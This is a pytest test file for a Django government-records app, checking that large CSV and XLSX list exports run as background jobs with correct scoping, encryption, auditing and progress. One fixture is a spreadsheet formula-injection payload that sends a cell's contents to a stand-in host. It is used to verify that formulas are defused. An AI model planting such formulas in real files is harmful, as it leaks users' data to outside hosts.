"""Large list exports as background jobs (core.pages.export_jobs): past MINZHENG_EXPORT_INLINE_ROWS the export
request becomes a job that replays the page as its user — same rows, order, columns and bytes as inline, the same
scoping — writes the file encrypted into the store for its owner only, reports progress per chunk, is audited like
the inline export, and is not started twice for the same request."""

from __future__ import annotations

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from openpyxl import load_workbook

from conftest import VILLAGE_A, VILLAGE_B, VILLAGE_C, VILLAGE_OTHER_COUNTY
from minzheng import home
from minzheng.core import filestore, jobs, roles
from minzheng.core.errors import NotFound
from minzheng.core.models import AuditEntry, Job, StoredFile
from minzheng.core.pages import export, export_jobs
from minzheng.core.tests.helpers import COUNTY, TOWNSHIP, URLS, client_for, drain, entry, local

pytestmark = [pytest.mark.django_db, pytest.mark.urls(URLS)]

LIMIT = 5
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


@pytest.fixture
def limit(settings):
    settings.MINZHENG_EXPORT_INLINE_ROWS = LIMIT
    return settings


@pytest.fixture
def county(make_user):
    return make_user(roles.COUNTY, COUNTY)


@pytest.fixture
def rows():
    """Six rows in 城东街道 (甲社区, 乙社区; hostile text, masked numbers), two in 丙社区, one in another county."""
    for i in range(6):
        entry([VILLAGE_A, VILLAGE_B][i % 2], f"经办{i}", ["update", "member_add"][i % 2], at=local(2026, 11, 1 + i),
              amount=f"{1234.5 + i}", fen=100 * i, id_masked="330902**********1X",
              note=HYPERLINK if i == 0 else f"说明{i}")
    entry(VILLAGE_C, "丙社区经办", at=local(2026, 11, 9))
    entry(VILLAGE_C, "丙社区经办二", at=local(2026, 11, 10))
    entry(VILLAGE_OTHER_COUNTY, "普陀区经办", at=local(2026, 11, 11))


def export_job() -> Job:
    return Job.objects.get(kind=export_jobs.KIND)


def exports_audited() -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action="export").order_by("seq"))


def job_file(client, job: Job) -> bytes:
    response = client.get(f"/jobs/{job.pk}/export/")
    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    assert "attachment" in response["Content-Disposition"] and response["Cache-Control"] == "no-store"
    return drain(response)


def inline(client, settings, url: str) -> bytes:
    """The same export as it streams from the request when the threshold is out of the way."""
    settings.MINZHENG_EXPORT_INLINE_ROWS = 1000
    response = client.get(url)
    assert response.status_code == 200, response
    return drain(response)


def csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_up_to_the_threshold_the_export_streams_from_the_request_as_before(county, rows, limit):
    client = client_for(county)
    url = f"/t/entries/?region={TOWNSHIP}&at_from=2026-11-02&sort=seq&export=csv"  # 经办1 … 经办5: exactly 5
    five = client.get(url)
    assert five.status_code == 200 and isinstance(five, StreamingHttpResponse)
    data = drain(five)
    assert [r[1] for r in csv_table(data)[1:]] == ["经办1", "经办2", "经办3", "经办4", "经办5"]
    assert not Job.objects.exists()
    assert exports_audited()[0].changes == {"rows": 5, "format": "csv",
                                            "filters": {"region": TOWNSHIP, "at": "2026-11-02～"}}
    assert data == inline(client, limit, url)  # the bytes do not depend on the threshold
    limit.MINZHENG_EXPORT_INLINE_ROWS = LIMIT
    six = client.get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=csv")
    assert six.status_code == 302 and Job.objects.filter(kind=export_jobs.KIND).count() == 1


def test_past_the_threshold_the_export_is_a_job_whose_file_is_the_inline_export(county, rows, limit):
    client = client_for(county)
    url = f"/t/entries/?region={TOWNSHIP}&sort=-seq&export=csv"
    response = client.get(url)
    job = export_job()
    assert response.status_code == 302 and response["Location"] == f"/jobs/{job.pk}/"
    assert not isinstance(response, StreamingHttpResponse)
    assert job.status == "done", job.result
    assert job.params["query"] == f"region={TOWNSHIP}&sort=-seq" and job.params["format"] == "csv"
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    assert "下载导出文件" in page and f"/jobs/{job.pk}/export/" in page and "导出行数" in page
    data = job_file(client, job)
    table = csv_table(data)
    assert [r[1] for r in table[1:]] == [f"经办{i}" for i in range(5, -1, -1)]  # ordered as asked: newest first
    assert table[-1][8:] == ["330902**********1X", "'" + HYPERLINK]  # masked stays masked; formulas defused
    assert data == inline(client, limit, url)  # byte for byte what the request would have streamed


def test_xlsx_job_has_the_inline_workbooks_typed_cells(county, rows, limit):
    client = client_for(county)
    url = f"/t/entries/?region={TOWNSHIP}&sort=seq&export=xlsx"
    assert client.get(url).status_code == 302
    job = export_job()
    stored = StoredFile.objects.get(pk=job.result["export_file"])
    assert stored.category == "export" and stored.content_type == export.XLSX_TYPE and stored.name.endswith(".xlsx")
    background = load_workbook(io.BytesIO(job_file(client, job))).active
    direct = load_workbook(io.BytesIO(inline(client, limit, url))).active

    def cells(sheet):
        return [[(c.value, c.data_type, c.number_format) for c in row] for row in sheet.iter_rows()]

    assert cells(background) == cells(direct) and len(cells(background)) == 7
    assert background["J2"].value == "'" + HYPERLINK and background["E2"].data_type == "n"


def test_a_list_longer_than_an_excel_sheet_is_refused_as_xlsx_but_not_as_csv(county, rows, limit, monkeypatch):
    """Past Excel's last row (here: 5 data rows) an xlsx export is refused before any job, with the way out; the
    same rows as CSV become the job as usual."""
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 5)
    client = client_for(county)
    limit.MINZHENG_EXPORT_INLINE_ROWS = 2
    refused = client.get(f"/t/entries/?region={TOWNSHIP}&export=xlsx")  # 6 rows
    assert refused.status_code == 422 and "请改用 CSV 导出" in refused.content.decode()
    assert not Job.objects.exists() and not exports_audited()
    assert client.get(f"/t/entries/?region={TOWNSHIP}&export=csv").status_code == 302
    assert client.get(f"/t/entries/?region={TOWNSHIP}&at_from=2026-11-02&export=xlsx").status_code == 302  # 5 rows


def test_the_job_sees_only_the_users_region_whatever_is_asked(make_user, rows, limit):
    make_user(roles.COUNTY, COUNTY)  # someone who could see more: the job must run as its own user
    township = make_user(roles.TOWNSHIP, TOWNSHIP)
    client = client_for(township)
    assert client.get("/t/entries/?export=csv").status_code == 302
    names = [r[1] for r in csv_table(job_file(client, export_job()))[1:]]
    assert sorted(names) == [f"经办{i}" for i in range(6)]  # never 丙社区's or another county's rows

    # A query naming a region outside the user's subtree, replayed as that user: refused, nothing written.
    job = jobs.submit(export_jobs.KIND, township, {"view": "test_entries", "args": [], "kwargs": {},
                                                   "query": f"region={VILLAGE_C}", "format": "csv"})
    job = jobs.run(job)
    assert job.status == "failed" and "列表页面拒绝了导出条件（422）" in job.message
    assert StoredFile.objects.filter(category="export").count() == 1


def test_the_job_checks_the_users_rights_when_it_runs(county, rows, limit, monkeypatch):
    monkeypatch.setattr(jobs, "run_in_background", lambda job: None)  # queued, not yet run
    client = client_for(county)
    assert client.get(f"/t/entries/?region={TOWNSHIP}&export=csv").status_code == 302
    county.role = roles.VILLAGE  # demoted before the job ran: a village clerk may not export
    county.save()
    job = jobs.run(export_job())
    assert job.status == "failed" and job.message == "您的角色无权导出此列表"
    assert not StoredFile.objects.filter(category="export").exists() and not exports_audited()


def test_the_file_is_stored_encrypted_and_served_to_its_owner_only(county, make_user, rows, limit):
    client = client_for(county)
    assert client.get(f"/t/entries/?region={TOWNSHIP}&export=csv").status_code == 302
    job = export_job()
    stored = StoredFile.objects.get(pk=job.result["export_file"])
    assert stored.created_by == county and stored.expires_at is not None
    raw = filestore.path_of(stored.key).read_bytes()
    assert "经办1".encode() not in raw and b"HYPERLINK" not in raw  # no plaintext at rest
    assert not any(home.home_dir("tmp").iterdir())  # nor a temporary copy
    colleague = client_for(make_user(roles.COUNTY, COUNTY))  # same role, same county: still not theirs
    assert colleague.get(f"/jobs/{job.pk}/export/").status_code == 404
    assert colleague.get(f"/jobs/{job.pk}/").status_code == 404
    with pytest.raises(NotFound):
        filestore.download_response(make_user(roles.COUNTY, COUNTY), stored.pk)
    assert "经办1" in job_file(client, job).decode("utf-8-sig")


def test_the_job_is_audited_like_the_inline_export(county, rows, limit):
    client = client_for(county)
    assert client.get(f"/t/entries/?region={TOWNSHIP}&month=2026-11&export=csv").status_code == 302
    job = export_job()
    (audited,) = exports_audited()  # one entry: the request itself exported nothing
    assert (audited.actor_id, audited.object_type, audited.region_code) == (county.pk, "audit_entry", COUNTY)
    assert audited.changes == {"rows": 6, "format": "csv", "filters": {"region": TOWNSHIP, "month": "2026-11"},
                               "job": job.pk}
    assert job.result["rows"] == 6 and job.result["display"][0] == ["导出行数", 6]


def test_a_retry_after_the_file_was_audited_neither_writes_nor_audits_it_again(county, rows, limit, monkeypatch):
    from django.db import OperationalError

    real, returned = export_jobs.write, []

    def fails_once_after_writing(job, progress, *args, **kwargs):
        out = real(job, progress, *args, **kwargs)
        returned.append(out["export_file"])
        if len(returned) == 1:  # the file is written and audited, then the database drops the job's "done"
            raise OperationalError("database is locked")
        return out

    monkeypatch.setattr(export_jobs, "write", fails_once_after_writing)
    client = client_for(county)
    assert client.get(f"/t/entries/?region={TOWNSHIP}&export=csv").status_code == 302
    job = export_job()
    assert (job.status, job.result["export_file"]) == ("done", returned[0])
    assert returned == [returned[0], returned[0]]  # the retry returned the first attempt's file
    assert StoredFile.objects.filter(category="export").count() == 1 and len(exports_audited()) == 1
    assert "经办1" in job_file(client, job).decode("utf-8-sig")


def test_progress_is_reported_every_chunk(county, rows, limit, monkeypatch):
    monkeypatch.setattr(export_jobs, "CHUNK", 2)
    seen = []
    report = jobs.Progress.__call__

    def spy(self, done, total, message=""):
        seen.append((done, total, message))
        report(self, done, total, message)

    monkeypatch.setattr(jobs.Progress, "__call__", spy)
    assert client_for(county).get(f"/t/entries/?region={TOWNSHIP}&export=csv").status_code == 302
    assert [(d, t) for d, t, _ in seen] == [(0, 6), (2, 6), (4, 6), (6, 6)]
    assert seen[-1][2] == "已导出 6/6 行"
    job = export_job()
    assert (job.done, job.total, job.percent) == (6, 6, 100)


def test_the_same_request_again_returns_the_job_still_waiting(county, make_user, rows, limit, monkeypatch):
    monkeypatch.setattr(jobs, "run_in_background", lambda job: None)  # the queue is busy: jobs wait
    client = client_for(county)
    first = client.get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=csv")
    again = client.get(f"/t/entries/?sort=seq&page=3&region={TOWNSHIP}&export=csv")  # a refresh, reordered
    assert first.status_code == again.status_code == 302 and first["Location"] == again["Location"]
    assert Job.objects.filter(kind=export_jobs.KIND).count() == 1
    page = client.get(first["Location"]).content.decode()
    assert "“审计记录测试”导出数据较多，已转为后台任务，完成后可在此下载" in page and "下载导出文件" not in page
    assert f"导出“审计记录测试” · 后台任务 #{Job.objects.get(kind=export_jobs.KIND).pk}</h1>" in page

    # Another format, other filters, another user: their own jobs.
    client.get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=xlsx")
    client.get(f"/t/entries/?region={TOWNSHIP}&sort=-seq&export=csv")
    client_for(make_user(roles.COUNTY, COUNTY)).get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=csv")
    assert Job.objects.filter(kind=export_jobs.KIND).count() == 4

    # Once the job has finished, asking again is a new export.
    job = jobs.run(Job.objects.get(pk=int(first["Location"].split("/")[2])))
    assert job.status == "done"
    later = client.get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=csv")
    assert later["Location"] != first["Location"]


def test_a_list_named_by_its_url_arguments_is_replayed_with_them(county, make_user, limit):
    clerk, other = make_user(roles.VILLAGE, VILLAGE_A), make_user(roles.VILLAGE, VILLAGE_A)
    for i in range(9):  # six by the clerk, three by someone else
        entry(VILLAGE_A, clerk if i % 3 else other, "update" if i % 2 else "create")
    client = client_for(county)
    url = f"/t/users/{clerk.pk}/entries/?export=csv"
    assert client.get(url).status_code == 302
    job = export_job()
    assert job.params["kwargs"] == {"pk": clerk.pk} and job.params["title"] == f"{clerk.username}的操作记录"
    data = job_file(client, job)
    assert {r[1] for r in csv_table(data)[1:]} == {clerk.username} and len(csv_table(data)) == 7
    assert job.result["name"].startswith(f"{clerk.username}的操作记录-")
    assert data == inline(client, limit, url)
